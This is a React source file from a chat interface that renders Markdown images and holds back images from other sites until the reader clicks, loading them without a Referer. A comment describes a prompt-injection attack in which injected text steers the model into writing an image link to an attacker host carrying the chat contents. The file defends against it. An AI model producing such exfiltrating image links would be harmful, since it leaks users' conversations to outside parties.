import { useState } from 'react';
import { useT } from '@atelier/core';
import { chatNamespace } from '../../i18n/chatNamespace';
import { RemoteImageButton } from './Markdown.styles';

/** The host of an image on another site, or null for the page's own, data: and blob: images. */
export function remoteImageHost(src: string, pageUrl: string = globalThis.location?.href ?? 'http://localhost/'): string | null {
  let url: URL;
  try {
    url = new URL(src, pageUrl);
  } catch {
    return null;
  }
  if (url.protocol === 'data:' || url.protocol === 'blob:') return null;
  return url.origin === new URL(pageUrl).origin ? null : url.host;
}

/**
 * A model's reply can be steered by text it read to write `![](https://attacker/?q=<the chat>)`;
 * loading that image on render would send the conversation away. Images on other sites load only
 * when the reader asks, and never with a Referer.
 */
export function MarkdownImage({ src, alt }: { src?: string | Blob | undefined; alt?: string | undefined }) {
  const t = useT(chatNamespace);
  const [shown, setShown] = useState(false);
  if (typeof src !== 'string' || !src) return null;
  const host = remoteImageHost(src);
  if (host && !shown) {
    return (
      <RemoteImageButton type="button" data-part="remote-image" onClick={() => setShown(true)} title={alt || undefined}>
        {t('messages.showRemoteImage', { host })}
      </RemoteImageButton>
    );
  }
  return <img src={src} alt={alt ?? ''} loading="lazy" referrerPolicy="no-referrer" />;
}
